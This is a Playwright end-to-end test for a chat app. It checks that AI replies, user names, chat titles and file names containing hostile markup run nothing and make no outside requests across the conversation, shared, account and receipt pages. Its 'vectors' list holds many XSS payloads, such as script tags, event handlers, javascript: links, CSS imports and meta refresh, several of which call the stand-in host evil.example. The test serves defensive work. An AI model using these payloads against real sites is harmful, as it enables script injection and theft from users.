import type { BrowserContext } from "@playwright/test";
import { makePng } from "../server/testing/files.ts";
import { createConversation, idOf, log, setTexts } from "./support/conversation.ts";
import { chooseFiles, fileCards } from "./support/files.ts";
import { expect, test } from "./support/fixtures.ts";
import { callRest, signIn } from "./support/members.ts";
import { buyPlan } from "./support/orders.ts";

const evil = "https://evil.example";
const ran = "window.__ran = 1; alert(1)";
const name = `<img src=x onerror="${ran}">`;

/** What a model, a page that it read, or a person may write; each would call `evil` or run. */
const vectors = [
  `<script>${ran}</script><script src="${evil}/a.js"></script>`,
  `<img src=x onerror="${ran}"> <svg onload="${ran}"></svg> <iframe src="${evil}"></iframe>`,
  `![a picture](${evil}/pixel.png) ![data](data:text/html,<script>alert(1)</script>)`,
  `[press](javascript:alert(1)) [press](JaVaScRiPt&colon;alert(1)) [press](java\nscript:alert(1))`,
  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [press](vbscript:x)",
  `<javascript:alert(1)> <${evil}/auto> [ref]: javascript:alert(1)`,
  `[x](${evil}/"onmouseover="${ran}") ![x"onerror="${ran}](x)`,
  `<style>@import url(${evil}/a.css); * { background: url(${evil}/b) }</style>`,
  `<link rel="prefetch" href="${evil}"><base href="${evil}"><meta http-equiv="refresh" content="0;${evil}">`,
  `<form action="${evil}"><input autofocus onfocus="${ran}"><button>Sign in</button></form>`,
  `<details open ontoggle="${ran}"> <video poster="${evil}/p"> <object data="${evil}">`,
  `| a | b |\n|---|---|\n| <img src=x onerror="${ran}"> | \`<script>${ran}</script>\` |`,
  `\`\`\`html\n</code></pre><script>${ran}</script>\n\`\`\``,
  `<math><mtext><table><mglyph><style><img src=x onerror="${ran}">`,
  `&lt;script&gt;${ran}&lt;/script&gt; \u2028<a href="//evil.example">x</a>`,
];

/** Everything that a page must not do while it shows hostile text. */
function watch(context: BrowserContext, origin: string) {
  const faults: string[] = [];
  context.on("request", (request) => {
    const { protocol, origin: asked } = new URL(request.url());
    if (asked !== origin && protocol.startsWith("http")) faults.push(`asks for ${request.url()}`);
  });
  context.on("dialog", (dialog) => {
    faults.push(`opens a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return faults;
}

test("text of a model, names and file names run nothing and call no one", async ({
  page,
  context,
  product,
  member,
}) => {
  const faults = watch(context, new URL(product.url).origin);
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      Reflect.set(window, "__violation", `${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  /** The markup of what is shown holds no element or URL that could act. */
  const expectHarmless = async (place: string) => {
    const found = await page.evaluate(() => ({
      ran: "__ran" in window,
      violation: Reflect.get(window, "__violation") ?? null,
      acting: [...document.querySelectorAll("main *, dialog *")]
        .filter((element) =>
          [...element.attributes].some(
            ({ name: attribute, value }) =>
              attribute.startsWith("on") || /^\s*(javascript|data:text|vbscript)/i.test(value),
          ),
        )
        .map((element) => element.outerHTML),
      foreign: document.querySelectorAll(
        "main :is(script, iframe, object, embed, style, base, form[action*=evil])",
      ).length,
    }));
    expect({ place, ...found }).toEqual({
      place,
      ran: false,
      violation: null,
      acting: [],
      foreign: 0,
    });
    expect(faults, place).toEqual([]);
  };
  await product.db.updateTable("users").set({ name }).where("id", "=", member.user.id).execute();
  const orderId = await buyPlan(product, { ...member, user: { ...member.user, name } });
  const chatPath = await createConversation(product.url, member, { messages: [name] });
  const uuid = idOf(chatPath);
  await setTexts(product, chatPath, {
    sender: "ai",
    text: `The end of the reply\n\n${vectors.join("\n\n")}`,
  });
  await callRest(`${product.url}/trpc/chat.rename`, {
    token: member.token,
    body: { uuid, title: name },
  });
  const { token } = member;
  const shared = await callRest(`${product.url}/trpc/chat.share`, { token, body: { uuid } });

  await signIn(page, { ...member, user: { ...member.user, name } });
  await page.goto(chatPath);
  await expect(log(page)).toContainText("The end of the reply");
  await expect(log(page)).toContainText("evil.example");
  await expectHarmless("the conversation");

  const file = { name: `${name}.png`, mimeType: "image/png", buffer: makePng(4, 4) };
  await chooseFiles(page, [file]);
  await expect(fileCards(page).filter({ hasText: "onerror" })).toBeVisible();
  await expectHarmless("a file's name");

  await page.goto(new URL(shared.result.data.url).pathname);
  await expect(page.locator("main")).toContainText("The end of the reply");
  await expectHarmless("the shared page");

  for (const path of ["/account", `/receipts/${orderId}`, "/payment-history"]) {
    await page.goto(path);
    await expect(page.locator("main")).toBeVisible();
    await expectHarmless(path);
  }
});
